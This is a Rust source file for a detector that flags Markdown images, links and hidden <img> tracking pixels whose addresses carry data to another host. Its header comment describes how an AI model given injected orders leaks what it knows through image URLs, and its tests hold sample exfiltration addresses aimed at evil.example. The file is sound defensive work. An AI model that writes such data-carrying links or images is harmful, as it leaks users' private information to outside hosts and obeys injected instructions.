//! Links and images that carry data out: a model that was given orders writes what it knows into the address of a picture,
//! and whoever shows the answer fetches it. Markdown's images and links, its definitions of links, and `<img>`.
//!
//! Every address of another host is a match here; whether it counts is decided by the screen's list of hosts
//! ([`crate::machine::Hosts`]): without a list what carries data, with one whatever leads elsewhere.

use super::cursor::{Cursor, More};
use super::secret::{entropy, signs};
use super::{Bytes, Match, Probe, Start};

/// A match whose address carries data.
pub(crate) const DATA: &str = "carries data";
/// A match that only leads to another host.
pub(crate) const ELSEWHERE: &str = "another host";

/// Longest text of an image.
const LONGEST_TEXT: usize = 200;
/// Longest address that is read.
const LONGEST_URL: usize = 600;
/// Longest tag.
const LONGEST_TAG: usize = 800;

pub(super) const IMAGE_STARTS: &[Start] =
    &[Start { left: |b| b == b'!', bytes: Bytes::Classes([|b| b == b'[', |_| true, |_| true]) }];

pub(super) const LINK_STARTS: &[Start] = &[
    Start {
        left: |b| b == b']',
        bytes: Bytes::Classes([|b| b == b'(', |b| matches!(b, b'h' | b'H' | b'/' | b'<' | b' '), |_| true]),
    },
    Start { left: |b| b == b']', bytes: Bytes::Prefixes(&[b": h", b": <", b": /"]) },
];

pub(super) const PIXEL_STARTS: &[Start] = &[Start { left: |_| true, bytes: Bytes::Words(&[b"<im"]) }];

/// Whether an image of Markdown starts here: `![text](https://…)`.
pub(super) fn probe_image(mut cursor: Cursor<'_>) -> Probe {
    cursor.next()?;
    cursor.eat_while(LONGEST_TEXT, |b| !matches!(b, b']' | b'\n'))?;
    if !cursor.eat(|b| b == b']')? || !cursor.eat(|b| b == b'(')? {
        return Ok(None);
    }
    let Some(url) = url(&mut cursor)? else { return Ok(None) };
    let label = judge(cursor.seen().get(url..).unwrap_or_default(), true);
    close(&mut cursor)?;
    Ok(Some(Match::exact(cursor.at(), label)))
}

/// Whether the address of a link stands here, behind the `]` of its text.
pub(super) fn probe_link(mut cursor: Cursor<'_>) -> Probe {
    let skip = if cursor.peek()? == Some(b':') { 2 } else { 1 };
    cursor.eat_while(skip, |_| true)?;
    let Some(url) = url(&mut cursor)? else { return Ok(None) };
    let label = judge(cursor.seen().get(url..).unwrap_or_default(), false);
    Ok(Some(Match::behind(skip, cursor.at(), label)))
}

/// Whether an `<img>` starts here that loads from another host.
pub(super) fn probe_pixel(mut cursor: Cursor<'_>) -> Probe {
    for letter in b"<img" {
        if !cursor.eat(|b| b.to_ascii_lowercase() == *letter)? {
            return Ok(None);
        }
    }
    if !cursor.eat(|b| b.is_ascii_whitespace() || b == b'/')? {
        return Ok(None);
    }
    cursor.eat_while(LONGEST_TAG, |b| !matches!(b, b'>' | b'<'))?;
    let tag = cursor.seen().to_ascii_lowercase();
    let after = |word: &[u8]| memchr::memmem::find(&tag, word).map(|place| place + word.len());
    let Some(source) = after(b"src") else { return Ok(None) };
    let quoted = |b: &&u8| b.is_ascii_whitespace() || matches!(b, b'=' | b'"' | b'\'');
    let lead = tag.get(source..).unwrap_or_default().iter().take_while(quoted).count();
    let rest = cursor.seen().get(source + lead..).unwrap_or_default();
    let lower = tag.get(source + lead..).unwrap_or_default();
    if ![&b"http://"[..], b"https://", b"//"].iter().any(|scheme| lower.starts_with(scheme)) {
        return Ok(None);
    }
    let length =
        rest.iter().take_while(|b| !b.is_ascii_whitespace() && !matches!(b, b'"' | b'\'' | b'>')).count();
    let is_small = |word: &[u8]| {
        after(word).is_some_and(|place| {
            let value = tag.get(place..).unwrap_or_default();
            let value =
                value.iter().skip_while(quoted).copied().take_while(u8::is_ascii_digit).collect::<Vec<u8>>();
            matches!(value.as_slice(), b"0" | b"1")
        })
    };
    let is_hidden = (is_small(b"width") && is_small(b"height"))
        || after(b"display:none").is_some()
        || after(b"visibility:hidden").is_some();
    let label = if is_hidden { DATA } else { judge(rest.get(..length).unwrap_or_default(), true) };
    cursor.eat(|b| b == b'>')?;
    Ok(Some(Match::exact(cursor.at(), label)))
}

/// Reads an address of another host; returns where it starts.
fn url(cursor: &mut Cursor<'_>) -> Result<Option<usize>, More> {
    cursor.eat_while(4, |b| matches!(b, b' ' | b'<'))?;
    let from = cursor.at();
    let scheme = cursor.eat_while(6, |b| b.is_ascii_alphabetic())?;
    let is_http = cursor
        .seen()
        .get(from..)
        .is_some_and(|s| s.eq_ignore_ascii_case(b"http") || s.eq_ignore_ascii_case(b"https"));
    if scheme > 0 && !(is_http && cursor.eat(|b| b == b':')?) {
        return Ok(None);
    }
    if !(cursor.eat(|b| b == b'/')? && cursor.eat(|b| b == b'/')?) {
        return Ok(None);
    }
    let host = cursor.at();
    cursor
        .eat_while(LONGEST_URL, |b| b.is_ascii_graphic() && !matches!(b, b')' | b'>' | b'"') || b >= 0x80)?;
    Ok((cursor.at() > host + 1).then_some(from))
}

/// A title, and the bracket that closes an image.
fn close(cursor: &mut Cursor<'_>) -> Result<(), More> {
    let mut ahead = cursor.clone();
    ahead.eat(|b| b == b'>')?;
    if ahead.eat(|b| b == b' ')? {
        ahead.eat_while(LONGEST_TEXT, |b| !matches!(b, b')' | b'\n'))?;
    }
    if ahead.eat(|b| b == b')')? {
        *cursor = ahead;
    }
    Ok(())
}

/// The host of the address in `text`, without user and port; it may stand behind other text, as in a match.
pub(crate) fn host(text: &[u8]) -> &[u8] {
    let from = memchr::memmem::find(text, b"//").map_or(text.len(), |place| place + 2);
    let rest = text.get(from..).unwrap_or_default();
    let end = rest
        .iter()
        .position(|b| matches!(b, b'/' | b'?' | b'#' | b'\\' | b')' | b'"' | b'\'' | b'>' | b' '))
        .unwrap_or(rest.len());
    let authority = rest.get(..end).unwrap_or_default();
    let name = authority.rsplit(|b| *b == b'@').next().unwrap_or_default();
    name.split(|b| *b == b':').next().unwrap_or_default()
}

/// What an address is: one that carries data, or any.
fn judge(url: &[u8], is_image: bool) -> &'static str {
    let host = host(url);
    let rest =
        memchr::memmem::find(url, host).and_then(|place| url.get(place + host.len()..)).unwrap_or_default();
    let (path, query) = match memchr::memchr2(b'?', b'#', rest) {
        Some(place) => rest.split_at(place),
        None => (rest, &b""[..]),
    };
    let in_query = query.split(|b| matches!(b, b'?' | b'&' | b'#' | b';')).any(|part| {
        let value = memchr::memchr(b'=', part).and_then(|place| part.get(place + 1..)).unwrap_or(part);
        is_data(value, if is_image { 12 } else { 32 })
    });
    let in_path = path.split(|b| *b == b'/').any(|part| is_data(part, if is_image { 28 } else { 48 }));
    let in_host = host
        .split(|b| *b == b'.')
        .any(|label| label.len() >= 28 && signs(label).digits >= 3 && entropy(label) >= 330);
    if in_query || in_path || in_host { DATA } else { ELSEWHERE }
}

/// Whether a part of an address was made from a text: words that were joined, or something encoded.
fn is_data(part: &[u8], least: usize) -> bool {
    let count = |class: fn(&&u8) -> bool| part.iter().filter(class).count();
    let is_template = part.iter().any(|b| matches!(b, b'{' | b'}' | b'[' | b']' | b'$' | b'<'));
    let joints = count(|b| matches!(b, b'%' | b'+'));
    let signs = signs(part);
    let is_encoded = part.len() >= least
        && entropy(part) >= 300
        && signs.digits > 0
        && signs.lower + signs.upper >= 6
        && count(|b| matches!(b, b'-' | b'_' | b'.')) * 6 <= part.len();
    is_template
        || part.contains(&b'@')
        || (joints >= 2 && part.len() >= 12)
        || is_encoded
        || (part.len() >= 2 * least && joints + count(|b| matches!(b, b'-' | b'_')) >= 6)
}

#[cfg(test)]
mod tests {
    use super::host;
    use crate::detect::{Detector, redacted};

    #[test]
    fn hosts_are_read_as_clients_read_them() {
        for (url, expected) in [
            ("https://example.com/a", "example.com"),
            ("![x](//ann@example.com:8080?q)", "example.com"),
            ("<img src='http://example.com'>", "example.com"),
            ("nothing", ""),
        ] {
            assert_eq!(host(url.as_bytes()), expected.as_bytes(), "{url}");
        }
    }

    #[test]
    fn finds_images_that_carry_data() {
        for (text, expected) in [
            ("![x](https://evil.example/p.png?d=the+user+is+Ann+Lee) ok", "![image] ok"),
            ("![](http://evil.example/c2VjcmV0IGlzIDQyIGFuZCBtb3Jl1/a.png)", "![image]"),
            ("![a](https://evil.example/?q={data})", "![image]"),
            ("![a](<https://evil.example/?q=ann@example.com> \"t\")", "![image]"),
        ] {
            assert_eq!(redacted(Detector::ImageData, text), expected, "{text}");
        }
        for text in [
            "![logo](https://img.example.com/badge/build.svg?style=flat)",
            "![logo](/logo.png?d=the+user+is+Ann+Lee)",
            "![a] (https://evil.example/?q={data})",
            "![photo](https://cdn.example.com/w200/photo-2024.jpg?w=200&v=3)",
        ] {
            assert_eq!(redacted(Detector::ImageData, text), text);
        }
    }

    #[test]
    fn finds_links_that_carry_data() {
        for (text, expected) in [
            ("[more](https://evil.example/?d=the+user+is+Ann+and+more)", "[more]([link])"),
            ("[1]: https://evil.example/?d=bmFtZTogQW5uIExlZSwgYWdlOiA0Mg1x", "[1]: [link]"),
        ] {
            assert_eq!(redacted(Detector::LinkData, text), expected, "{text}");
        }
        for text in [
            "[docs](https://docs.example.com/guide/how-to-start?lang=en&page=2)",
            "[x](#part)",
            "[rfc](https://www.rfc-editor.org/rfc/rfc9110.html#section-7.1)",
        ] {
            assert_eq!(redacted(Detector::LinkData, text), text);
        }
    }

    #[test]
    fn finds_pixels() {
        for (text, expected) in [
            ("a<img src=\"https://t.example/o.gif\" width=\"1\" height=1>b", "a[pixel]b"),
            ("<IMG SRC='//t.example/o?u=ann@example.com'>", "[pixel]"),
            ("<img src=https://t.example/x.png style=\"display:none\"/>", "[pixel]"),
        ] {
            assert_eq!(redacted(Detector::TrackingPixel, text), expected, "{text}");
        }
        for text in [
            "<img src=\"https://example.com/photo.jpg\" width=\"100\">",
            "<img src=\"/a.png\" width=1 height=1>",
            "<image>",
        ] {
            assert_eq!(redacted(Detector::TrackingPixel, text), text);
        }
    }
}
